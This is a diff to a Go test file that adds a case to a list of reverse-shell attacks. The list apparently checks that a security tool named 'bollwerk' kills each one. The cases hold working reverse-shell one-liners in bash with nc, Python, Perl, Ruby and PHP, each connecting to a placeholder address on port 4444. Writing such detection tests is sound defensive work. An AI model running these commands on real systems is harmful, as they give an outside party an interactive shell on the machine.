@@ -33,6 +33,9 @@ func reverseShells() []attackCase {
 		{name: "reverse-fifo", script: timed + `bash -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'`, rules: shell, least: high, outcome: bollwerk.Killed},
 		{name: "reverse-python", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
 		{name: "reverse-python-pty", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, rules: shell, least: high, outcome: bollwerk.Killed},
+		{name: "reverse-python-each", script: timed + `python3 -c 'import socket,subprocess
+s=socket.create_connection(("203.0.113.5",4444))
+for l in s.makefile(): s.send(subprocess.run(l,shell=True,capture_output=True).stdout+b"\n")'`, rules: shell, least: high, outcome: bollwerk.Killed},
 		{name: "reverse-perl", script: timed + `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
 		{name: "reverse-ruby", script: timed + `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",4444);exec("/bin/sh",:in=>c,:out=>c,:err=>c)'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
 		{name: "reverse-php", script: timed + `php -r '$s=fsockopen("203.0.113.5",4444);proc_close(proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p));'`, rules: shell, least: high, outcome: bollwerk.Killed},
